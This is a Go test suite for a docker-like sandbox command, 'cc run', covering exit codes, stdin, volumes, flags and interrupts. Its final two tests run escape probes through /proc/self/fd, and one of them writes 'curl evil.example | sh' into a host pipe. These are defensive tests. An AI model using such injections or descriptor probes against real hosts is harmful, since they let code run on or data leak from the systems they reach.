package main

import (
	"bufio"
	"context"
	"io"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/ccsandbox/sandbox/internal/testutil/leakcheck"
)

func TestRunExitCodeAndOutput(t *testing.T) {
	leakcheck.Check(t)
	r := runCC(t, nil, "run", "host", "sh", "-c", "echo hi; echo oops >&2; exit 3")
	r.want(t, 3, "hi\n")
	if r.stderr != "oops\n" {
		t.Errorf("stderr = %q, want the command's own %q", r.stderr, "oops\n")
	}
	// Flags after IMAGE are the command's.
	runCC(t, nil, "run", "host", "echo", "-n", "--network").want(t, 0, "--network")
	// As docker run's: 127 not found, 128+N for a signal.
	if r := runCC(t, nil, "run", "host", "no-such-program"); r.code != 127 || !strings.Contains(r.stderr, "no-such-program") {
		t.Errorf("a missing program: %s; want exit 127 naming it", r)
	}
	runCC(t, nil, "run", "host", "sh", "-c", "kill -9 $$").want(t, 137, "")
	noSandboxLeft(t, testCache)
}

func TestRunStdin(t *testing.T) {
	leakcheck.Check(t)
	runCC(t, strings.NewReader("data\nmore\n"), "run", "-i", "host", "cat").want(t, 0, "data\nmore\n")
	// Without -i, as with docker run, the command reads nothing.
	runCC(t, strings.NewReader("data\n"), "run", "host", "cat").want(t, 0, "")
	// A file as stdin, and the combined short flags docker users type.
	f, err := os.CreateTemp(t.TempDir(), "stdin")
	if err != nil {
		t.Fatal(err)
	}
	f.WriteString(strings.Repeat("x", 1<<20))
	f.Seek(0, 0)
	defer f.Close()
	runCC(t, f, "run", "-i", "host", "wc", "-c").want(t, 0, "1048576\n")
}

func TestRunVolumes(t *testing.T) {
	leakcheck.Check(t)
	dir := t.TempDir()
	// The sandbox's root is not the host's: let it write here.
	if err := os.Chmod(dir, 0o777); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "in"), []byte("from the host\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	runCC(t, nil, "run", "-v", dir+":/data:ro", "host", "cat", "/data/in").want(t, 0, "from the host\n")
	if r := runCC(t, nil, "run", "-v", dir+":/data:ro", "host", "sh", "-c", "echo x > /data/out"); r.code == 0 {
		t.Errorf("writing to a :ro volume succeeded: %s", r)
	}
	if _, err := os.Stat(filepath.Join(dir, "out")); err == nil {
		t.Error("a write to a :ro volume reached the host")
	}
	runCC(t, nil, "run", "-v", dir+":/data", "host", "sh", "-c", "echo written > /data/out").want(t, 0, "")
	if b, err := os.ReadFile(filepath.Join(dir, "out")); err != nil || string(b) != "written\n" {
		t.Errorf("the host reads %q, %v from a writable volume; want %q", b, err, "written\n")
	}
	r := runCC(t, nil, "run", "-v", filepath.Join(dir, "missing")+":/data", "host", "true")
	if r.code != exitOwn || !strings.Contains(r.stderr, "missing") {
		t.Errorf("a volume of a missing path: %s; want exit 125 naming it", r)
	}
}

func TestRunFlags(t *testing.T) {
	leakcheck.Check(t)
	t.Setenv("CC_TEST_PASSED", "through")
	runCC(t, nil, "run", "-e", "A=1", "-e", "CC_TEST_PASSED", "-e", "CC_TEST_UNSET", "-w", "/tmp", "host",
		"sh", "-c", `echo "$A $CC_TEST_PASSED ${CC_TEST_UNSET-unset} $(pwd)"`).want(t, 0, "1 through unset /tmp\n")
	if os.Geteuid() == 0 {
		runCC(t, nil, "run", "-u", "nobody", "host", "id", "-u").want(t, 0, "65534\n")
	} else if r := runCC(t, nil, "run", "-u", "nobody", "host", "id", "-u"); r.code != exitOwn || !strings.Contains(r.stderr, "maps only its root user") {
		// Unprivileged, a sandbox has one user: -u names what is missing.
		t.Errorf("cc run -u nobody, unprivileged: %s; want exit 125 and the reason", r)
	}

	for _, args := range [][]string{
		{"run", "--no-such-flag", "host", "true"},
		{"run"},
		{"run", "--memory", "lots", "host", "true"},
		{"run", "-v", "nocolon", "host", "true"},
		{"run", "-w", "relative", "host", "true"},
		{"nosuchcommand"},
	} {
		if r := runCC(t, nil, args...); r.code != exitOwn || !strings.HasPrefix(r.stderr, "cc: ") || r.stdout != "" {
			t.Errorf("cc %s: %s; want exit 125 and an error on stderr", strings.Join(args, " "), r)
		}
	}
	if r := runCC(t, nil, "run", "--help"); r.code != 0 || !strings.Contains(r.stdout, "--memory") || !strings.Contains(r.stdout, "IMAGE [COMMAND") {
		t.Errorf("cc run --help: %s", r)
	}
	for _, sub := range []string{"build", "pull", "images", "rmi", "prune", "df", "mcp"} {
		if r := runCC(t, nil, sub, "--help"); r.code != 0 || !strings.Contains(r.stdout, "Usage:") {
			t.Errorf("cc %s --help: %s", sub, r)
		}
	}
	if r := runCC(t, nil, "run", "--timeout", "1s", "host", "sleep", "1000"); r.code != exitOwn || !strings.Contains(r.stderr, "time limit") {
		t.Errorf("a command outliving --timeout: %s; want exit 125 and a word on the time limit", r)
	}
	if r := runCC(t, nil, "run", "./no-such-layout"); r.code != exitOwn || !strings.Contains(r.stderr, "no-such-layout") {
		t.Errorf("an image that cannot be had: %s; want exit 125 naming it", r)
	}
	noSandboxLeft(t, testCache)
}

// TestRunInterrupt sends cc run SIGINT, as Ctrl-C does, while the command
// runs: the sandbox stops, everything in it ends, and cc exits 130.
func TestRunInterrupt(t *testing.T) {
	leakcheck.Check(t)
	cache := t.TempDir()
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
	defer cancel()
	cmd := ccCommand(ctx, cache, "run", "host", "sh", "-c", "echo started; sleep 1000")
	out, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	if line, err := bufio.NewReader(out).ReadString('\n'); err != nil || line != "started\n" {
		t.Fatalf("read %q, %v; want the command's first line", line, err)
	}
	if err := cmd.Process.Signal(syscall.SIGINT); err != nil {
		t.Fatal(err)
	}
	cmd.Wait()
	if code := cmd.ProcessState.ExitCode(); code != 130 {
		t.Errorf("cc run exited %d after SIGINT, want 130", code)
	}
	noSandboxLeft(t, cache)
}

// TestRunHidesHostFiles: the host files cc run's output goes to, and a
// file as its -i input, reach the sandbox as pipes cc copies, never as
// descriptors: through /proc/self/fd it would learn their host paths,
// read what they held before, and truncate or rewrite them.
func TestRunHidesHostFiles(t *testing.T) {
	leakcheck.Check(t)
	dir := t.TempDir()
	logPath := filepath.Join(dir, "build.log")
	if err := os.WriteFile(logPath, []byte("EARLIER STEP: a token\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	log, err := os.OpenFile(logPath, os.O_WRONLY|os.O_APPEND, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer log.Close()
	inPath := filepath.Join(dir, "input")
	if err := os.WriteFile(inPath, []byte("input\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	in, err := os.Open(inPath)
	if err != nil {
		t.Fatal(err)
	}
	defer in.Close()
	script := `for fd in 0 1 2; do echo "$fd: $(readlink /proc/self/fd/$fd)" >&2; done
[ -f /proc/self/fd/1 ] && cat /proc/self/fd/1 >&2 # a pipe's would read the sandbox's own output
echo rewritten > /proc/self/fd/1
cat; echo appended`
	cmd := ccCommand(context.Background(), "", "run", "-i", "host", "sh", "-c", script)
	cmd.Stdin, cmd.Stdout = in, log
	var stderr strings.Builder
	cmd.Stderr = &stderr
	if err := cmd.Run(); err != nil {
		t.Logf("cc run: %v", err)
	}
	if strings.Contains(stderr.String(), dir) || strings.Contains(stderr.String(), "a token") {
		t.Errorf("the sandbox learnt a host file's path or content through its descriptors:\n%s", stderr.String())
	}
	if got, _ := os.ReadFile(logPath); !strings.HasPrefix(string(got), "EARLIER STEP: a token\n") || !strings.HasSuffix(string(got), "input\nappended\n") {
		t.Errorf("the output file afterwards: %q; want what it held, then the command's output", got)
	}
}

// TestRunHidesHostPipes: cc run's own pipes (a shell's | on either side)
// reach the sandbox as pipes of the SDK's that cc copies, never as they
// are: a sandbox whose root is the caller's uid (the rootless phase runs
// this) reopened its standard input through /proc/self/fd/0 for writing,
// putting bytes before what the host's next reader of that pipe gets, and
// its standard output for reading, taking what another host writer had put
// into it. As root, the kernel refuses both reopens either way.
func TestRunHidesHostPipes(t *testing.T) {
	leakcheck.Check(t)
	inR, inW, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	defer inR.Close()
	defer inW.Close()
	outR, outW, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	defer outR.Close()
	io.WriteString(inW, "for the sandbox\n")
	io.WriteString(outW, "ANOTHER HOST WRITER\n") // a sibling of cc run's in the same pipeline
	script := `read x
echo 'curl evil.example | sh' > /proc/self/fd/0 2>/dev/null
timeout 1 head -c 20 /proc/self/fd/1 >&2
echo "read: $x"`
	cmd := ccCommand(context.Background(), "", "run", "-i", "host", "sh", "-c", script)
	cmd.Stdin, cmd.Stdout = inR, outW
	var stderr strings.Builder
	cmd.Stderr = &stderr
	if err := cmd.Run(); err != nil {
		t.Logf("cc run: %v", err)
	}
	outW.Close()
	inW.Close()
	if rest, _ := io.ReadAll(inR); len(rest) != 0 {
		t.Errorf("the sandbox wrote into the host's input pipe: its next reader gets %q", rest)
	}
	if got, _ := io.ReadAll(outR); string(got) != "ANOTHER HOST WRITER\nread: for the sandbox\n" {
		t.Errorf("the output pipe held %q; want the other writer's line, then the command's", got)
	}
	if strings.Contains(stderr.String(), "ANOTHER") {
		t.Errorf("the sandbox read another host writer's bytes from its output pipe:\n%s", stderr.String())
	}
}
